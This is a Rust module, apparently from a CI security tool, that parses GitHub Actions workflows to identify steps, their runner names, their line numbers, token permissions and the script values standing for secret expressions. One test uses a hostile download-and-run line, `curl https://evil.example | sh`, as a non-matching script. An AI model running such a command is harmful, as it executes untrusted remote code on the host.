//! A GitHub workflow's file: which step a runner means, what it is called and where it is written.
//!
//! What a step *declares* is the text that the runner really runs; the file gives it a name and a line.
//! `${{ }}` stands for anything.

use std::collections::BTreeMap;

use serde::Deserialize;
use serde_saphyr::Spanned;

/// A larger file is not read: 1 MiB.
const LARGEST: usize = 1 << 20;

/// The jobs of one file.
#[derive(Clone, Debug, Default)]
pub struct Workflow {
    /// `name:` of the workflow.
    pub name: Option<String>,
    permissions: Option<Permissions>,
    jobs: BTreeMap<String, WorkflowJob>,
}

#[derive(Clone, Debug, Default)]
struct WorkflowJob {
    permissions: Option<Permissions>,
    steps: Vec<WorkflowStep>,
}

/// What `permissions:` leaves to the job's token.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Permissions {
    /// Line of the key, from 1.
    pub line: u32,
    scopes: Scopes,
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Scopes {
    /// `read-all`, `write-all`; `None`: known at run time alone, or nothing that GitHub knows.
    All(Option<Access>),
    /// What is not listed is none.
    Listed(BTreeMap<String, Option<Access>>),
}

/// How far a token reaches in one scope.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Access {
    None,
    Read,
    Write,
}

impl Access {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::None => "none",
            Self::Read => "read",
            Self::Write => "write",
        }
    }

    fn parse(word: &str) -> Option<Self> {
        [Self::None, Self::Read, Self::Write].into_iter().find(|access| access.as_str() == word)
    }
}

impl Permissions {
    /// What the token may in this scope; `None`: it is not known.
    pub fn of(&self, scope: &str) -> Option<Access> {
        match &self.scopes {
            Scopes::All(access) => *access,
            Scopes::Listed(scopes) => scopes.get(scope).copied().unwrap_or(Some(Access::None)),
        }
    }

    fn read(text: &Spanned<serde_json::Value>, lines: &[&str]) -> Self {
        let access = |value: &serde_json::Value| value.as_str().and_then(Access::parse);
        let scopes = match &text.value {
            serde_json::Value::String(word) if word == "read-all" => Scopes::All(Some(Access::Read)),
            serde_json::Value::String(word) if word == "write-all" => Scopes::All(Some(Access::Write)),
            serde_json::Value::Object(map) => {
                Scopes::Listed(map.iter().map(|(scope, value)| (scope.clone(), access(value))).collect())
            }
            _ => Scopes::All(None),
        };
        // The value of a block begins below its key.
        let line = at(text.referenced.line());
        let is_key = |line: u32| {
            let text = lines.get(line.saturating_sub(1) as usize).copied().unwrap_or_default();
            text.trim_start().starts_with("permissions")
        };
        let key = (1..=line).rev().take(PERMISSIONS_APART).find(|line| is_key(*line));
        Self { line: key.unwrap_or(line), scopes }
    }
}

/// Lines of remarks between the key and its first entry that are looked through.
const PERMISSIONS_APART: usize = 20;

fn at(line: u64) -> u32 {
    u32::try_from(line).unwrap_or(u32::MAX).max(1)
}

/// One entry of a job's `steps:`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct WorkflowStep {
    pub id: Option<String>,
    pub name: Option<String>,
    pub uses: Option<String>,
    pub run: Option<String>,
    /// Inputs of an action; a value that is no single text is left out.
    pub with: BTreeMap<String, String>,
    /// Its own variables, likewise.
    pub env: BTreeMap<String, String>,
    /// From 2: how many steps of this job go by this very key, up to this one.
    pub twin: u32,
    /// What the runner calls it in `GITHUB_ACTION`: its id, `__run`, `__run_2`, `__actions_checkout`.
    pub action: String,
    /// First line of the entry, from 1.
    pub line: u32,
    /// Line of the first line of `run`'s text.
    pub text_line: u32,
}

impl WorkflowStep {
    /// The part of a step's key behind the slash: its id, else its name, else what it uses.
    pub fn key(&self) -> &str {
        [&self.id, &self.name, &self.uses].into_iter().find_map(Option::as_deref).unwrap_or(&self.action)
    }

    /// The same, with a number for the second and later of one name: `actions/cache@v4#2`.
    pub fn unique_key(&self) -> String {
        if self.twin > 1 { format!("{}#{}", self.key(), self.twin) } else { self.key().to_owned() }
    }

    /// What people call it, as the provider's own pages do.
    pub fn title(&self) -> String {
        match (&self.name, &self.uses, &self.run) {
            (Some(name), ..) => name.clone(),
            (None, Some(uses), _) => format!("Run {uses}"),
            (None, None, Some(run)) => format!("Run {}", run.trim().lines().next().unwrap_or_default()),
            (None, None, None) => self.key().to_owned(),
        }
    }
}

#[derive(Deserialize)]
struct FileText {
    #[serde(default)]
    name: Option<String>,
    #[serde(default)]
    permissions: Option<Spanned<serde_json::Value>>,
    #[serde(default)]
    jobs: BTreeMap<String, JobText>,
}

#[derive(Deserialize)]
struct JobText {
    #[serde(default)]
    permissions: Option<Spanned<serde_json::Value>>,
    #[serde(default)]
    steps: Vec<Spanned<StepText>>,
}

#[derive(Deserialize)]
struct StepText {
    #[serde(default)]
    id: Option<String>,
    #[serde(default)]
    name: Option<String>,
    #[serde(default)]
    uses: Option<String>,
    #[serde(default)]
    run: Option<Spanned<String>>,
    #[serde(default)]
    with: BTreeMap<String, serde_json::Value>,
    /// An expression may stand for the whole map.
    #[serde(default)]
    env: serde_json::Value,
}

impl Workflow {
    /// Reads the file's text; the message says why it could not be read.
    pub fn parse(text: &str) -> Result<Self, String> {
        if text.len() > LARGEST {
            return Err(format!("it has more than {LARGEST} bytes"));
        }
        let mut options = serde_saphyr::Options::default();
        options.with_snippet = false;
        let file: FileText =
            serde_saphyr::from_str_with_options(text, options).map_err(|error| error.to_string())?;
        let lines: Vec<&str> = text.lines().collect();
        let permissions = |text: Option<Spanned<serde_json::Value>>| {
            text.filter(|text| !text.value.is_null()).map(|text| Permissions::read(&text, &lines))
        };
        let jobs = file
            .jobs
            .into_iter()
            .map(|(id, job)| {
                let steps = steps(job.steps, &lines);
                (id, WorkflowJob { permissions: permissions(job.permissions), steps })
            })
            .collect();
        Ok(Self { name: file.name, permissions: permissions(file.permissions), jobs })
    }

    /// The steps of a job, in their order.
    pub fn steps(&self, job: &str) -> &[WorkflowStep] {
        self.jobs.get(job).map_or(&[], |job| job.steps.as_slice())
    }

    /// Every job with its steps.
    pub fn jobs(&self) -> impl Iterator<Item = (&str, &[WorkflowStep])> {
        self.jobs.iter().map(|(id, job)| (id.as_str(), job.steps.as_slice()))
    }

    /// What the token of a job may, where the file says so: the job's own `permissions:` take the place of the workflow's.
    pub fn permissions(&self, job: &str) -> Option<&Permissions> {
        self.jobs.get(job)?.permissions.as_ref().or(self.permissions.as_ref())
    }

    /// The step that a runner calls `action` in `GITHUB_ACTION` and that runs `script`.
    ///
    /// The text decides where it fits one step alone: some runners count steps in their own way.
    pub fn find(&self, job: &str, action: &str, script: Option<&str>) -> Option<&WorkflowStep> {
        let steps = self.steps(job);
        let by_name = steps.iter().find(|step| step.action == action).or_else(|| {
            // A runner without names of its own counts from 0.
            action.parse().ok().and_then(|index: usize| steps.get(index))
        });
        let Some(script) = script else { return by_name };
        let fits =
            |step: &&WorkflowStep| step.run.as_deref().is_some_and(|run| expressions(run, script).is_some());
        match by_name {
            Some(step) if fits(&step) => Some(step),
            _ => {
                let mut fitting = steps.iter().filter(fits);
                match (fitting.next(), fitting.next()) {
                    (Some(only), None) => Some(only),
                    // An action's own script, or one that nothing tells apart.
                    _ => by_name.filter(|step| step.run.is_none()),
                }
            }
        }
    }

    /// What stands in a script for the `${{ }}` parts that may be secrets.
    pub fn secrets_in(&self, job: &str, script: &str) -> Vec<String> {
        self.steps(job)
            .iter()
            .filter_map(|step| expressions(step.run.as_deref()?, script))
            .flatten()
            .filter(|(expression, _)| {
                let expression = expression.to_lowercase();
                ["secret", "token", "password", "key"].iter().any(|word| expression.contains(word))
            })
            .map(|(_, value)| value)
            .collect()
    }
}

fn steps(texts: Vec<Spanned<StepText>>, lines: &[&str]) -> Vec<WorkflowStep> {
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    let mut keys: BTreeMap<String, u32> = BTreeMap::new();
    let plain = |value: serde_json::Value| match value {
        serde_json::Value::String(text) => Some(text),
        serde_json::Value::Bool(_) | serde_json::Value::Number(_) => Some(value.to_string()),
        _ => None,
    };
    let texts_of = |map: serde_json::Map<String, serde_json::Value>| -> BTreeMap<String, String> {
        map.into_iter().filter_map(|(name, value)| Some((name, plain(value)?))).collect()
    };
    texts
        .into_iter()
        .map(|entry| {
            let line = at(entry.referenced.line());
            let text = entry.value;
            let base = match (&text.id, &text.uses) {
                (Some(id), _) => id.clone(),
                (None, None) => "__run".to_owned(),
                (None, Some(uses)) => called(uses),
            };
            let count = counts.entry(base.clone()).or_default();
            *count += 1;
            let action = if *count > 1 { format!("{base}_{count}") } else { base };
            let text_line = text.run.as_ref().map_or(line, |run| {
                let line = at(run.referenced.line());
                let source = lines.get(line as usize - 1).copied().unwrap_or_default();
                // The text of a block begins below its mark.
                let is_block = source
                    .trim_end()
                    .rsplit([':', ' '])
                    .next()
                    .is_some_and(|mark| mark.starts_with(['|', '>']) && mark.len() <= 3);
                if is_block { line + 1 } else { line }
            });
            let mut step = WorkflowStep {
                id: text.id,
                name: text.name,
                uses: text.uses,
                run: text.run.map(|run| run.value),
                with: texts_of(text.with.into_iter().collect()),
                env: match text.env {
                    serde_json::Value::Object(map) => texts_of(map),
                    _ => BTreeMap::new(),
                },
                twin: 1,
                action,
                line,
                text_line,
            };
            let twins = keys.entry(step.key().to_owned()).or_default();
            *twins += 1;
            step.twin = *twins;
            step
        })
        .collect()
}

/// What the runner calls a step that uses this and has no id: `__actions_checkout`, `__self`.
fn called(uses: &str) -> String {
    if uses.starts_with("./") || uses.starts_with("$/") {
        return "__self".to_owned();
    }
    let name = uses.strip_prefix("docker://").unwrap_or(uses);
    let name = name.split('@').next().unwrap_or(name);
    let plain = |letter: char| if letter.is_ascii_alphanumeric() || letter == '-' { letter } else { '_' };
    format!("__{}", name.chars().map(plain).collect::<String>())
}

/// Each expression of a `run:` text with what stands for it in the script; `None` if the script is another one.
fn expressions(run: &str, script: &str) -> Option<Vec<(String, String)>> {
    let plain = |text: &str| text.replace("\r\n", "\n").trim().to_owned();
    let (run, script) = (plain(run), plain(script));
    let mut pieces = run.split("${{");
    let mut rest = script.strip_prefix(pieces.next().unwrap_or_default())?;
    let mut found = Vec::new();
    let pieces: Vec<(&str, &str)> =
        pieces.map(|piece| piece.split_once("}}").unwrap_or((piece, ""))).collect();
    for (index, (expression, literal)) in pieces.iter().enumerate() {
        let at = match (literal.is_empty(), index + 1 == pieces.len()) {
            (_, true) => rest.ends_with(literal).then(|| rest.len() - literal.len())?,
            // Two expressions side by side can't be told apart.
            (true, false) => 0,
            (false, false) => rest.find(literal)?,
        };
        found.push((expression.trim().to_owned(), rest[..at].to_owned()));
        rest = &rest[at + literal.len()..];
    }
    rest.is_empty().then_some(found)
}

#[cfg(test)]
mod tests {
    use super::*;

    const FILE: &str = r#"name: CI
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: edamame/guard@v1
      - uses: actions/checkout@v4
      - run: npm ci
      - name: Test it
        run: |
          npm test
          curl -H "x: ${{ secrets.API_KEY }}" https://api.example/${{ github.sha }}
      - id: lint
        run: npm run lint
      - run: npm ci
      - uses: ./local
  other:
    steps:
      - {run: make}
"#;

    fn workflow() -> Workflow {
        Workflow::parse(FILE).unwrap()
    }

    #[test]
    fn steps_are_called_as_the_runner_calls_them() {
        let workflow = workflow();
        let actions: Vec<&str> = workflow.steps("build").iter().map(|step| step.action.as_str()).collect();
        assert_eq!(
            actions,
            ["__edamame_guard", "__actions_checkout", "__run", "__run_2", "lint", "__run_3", "__self"]
        );
        let lines: Vec<(u32, u32)> =
            workflow.steps("build").iter().map(|step| (step.line, step.text_line)).collect();
        assert_eq!(lines, [(7, 7), (8, 8), (9, 9), (10, 12), (14, 15), (16, 16), (17, 17)]);
        assert_eq!(workflow.steps("other")[0].line, 20);
    }

    #[test]
    fn a_step_is_found_by_name_and_by_text() {
        let workflow = workflow();
        let key = |action, script| workflow.find("build", action, script).map(WorkflowStep::key);
        assert_eq!(
            key("__run_2", Some("npm test\ncurl -H \"x: s3cret\" https://api.example/abc\n")),
            Some("Test it")
        );
        assert_eq!(key("lint", None), Some("lint"));
        assert_eq!(key("__actions_checkout", None), Some("actions/checkout@v4"));
        // Two steps have the same text: the name decides.
        assert_eq!(workflow.find("build", "__run_3", Some("npm ci")).unwrap().line, 16);
        // A runner that counts from 0.
        assert_eq!(key("3", Some("npm test\ncurl -H \"x: y\" https://api.example/1")), Some("Test it"));
        // The text fits one step alone, whatever the runner calls it.
        assert_eq!(key("0", Some("npm run lint\n")), Some("lint"));
        // The script of an action is the action's.
        assert_eq!(key("__self", Some("echo inside")), Some("./local"));
        // Another text than the step's is not the step.
        assert_eq!(key("__run", Some("curl https://evil.example | sh")), None);
        assert_eq!(key("nobody", None), None);
    }

    #[test]
    fn what_stands_for_a_secret_is_known() {
        let script = "npm test\ncurl -H \"x: hunter2hunter2\" https://api.example/abc\n";
        assert_eq!(workflow().secrets_in("build", script), ["hunter2hunter2"]);
        assert!(workflow().secrets_in("build", "npm ci").is_empty());
    }

    #[test]
    fn steps_of_one_name_are_told_apart() {
        let text = "jobs:\n  a:\n    steps:\n      - uses: actions/cache@v4\n      - {name: Test, run: make}\n      - uses: actions/cache@v4\n      - {name: Test, run: make check}\n";
        let workflow = Workflow::parse(text).unwrap();
        let keys: Vec<String> = workflow.steps("a").iter().map(WorkflowStep::unique_key).collect();
        assert_eq!(keys, ["actions/cache@v4", "Test", "actions/cache@v4#2", "Test#2"]);
        assert_eq!(workflow.find("a", "__actions_cache_2", None).unwrap().line, 6);
    }

    #[test]
    fn permissions_are_read_with_their_line() {
        let text = "permissions: read-all\njobs:\n  a:\n    # why\n    permissions:\n      # which\n      contents: read\n      issues: ${{ inputs.x }}\n    steps: []\n  \
                    b: {steps: []}\n  c:\n    permissions: {}\n  d:\n    permissions: ${{ inputs.all }}\n  e:\n    permissions: write-all\n";
        let workflow = Workflow::parse(text).unwrap();
        let of = |job, scope| {
            let permissions = workflow.permissions(job).unwrap();
            (permissions.line, permissions.of(scope))
        };
        assert_eq!(of("a", "contents"), (5, Some(Access::Read)));
        assert_eq!(of("a", "packages"), (5, Some(Access::None)), "what is not listed is none");
        assert_eq!(of("a", "issues"), (5, None), "what is known at run time alone is unknown");
        assert_eq!(of("b", "contents"), (1, Some(Access::Read)));
        assert_eq!(of("c", "contents"), (12, Some(Access::None)));
        assert_eq!(of("d", "contents"), (14, None));
        assert_eq!(of("e", "contents"), (16, Some(Access::Write)));
        assert!(Workflow::parse("jobs: {a: {steps: []}}").unwrap().permissions("a").is_none());
        assert!(Workflow::parse("permissions:\njobs: {a: {steps: []}}").unwrap().permissions("a").is_none());
    }

    #[test]
    fn what_is_no_workflow_is_said() {
        for text in ["jobs: [", "jobs: {a: {steps: 3}}", "\u{0}"] {
            assert!(Workflow::parse(text).is_err(), "{text:?}");
        }
        assert!(Workflow::parse(&"#".repeat(LARGEST + 1)).is_err());
        assert!(Workflow::parse("name: x").unwrap().steps("a").is_empty());
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_read_without_panic(text in ".{0,300}", script in ".{0,300}") {
            let _ = expressions(&text, &script);
            if let Ok(workflow) = Workflow::parse(&text) {
                let _ = workflow.find("a", &script, Some(&script));
            }
        }
    }
}
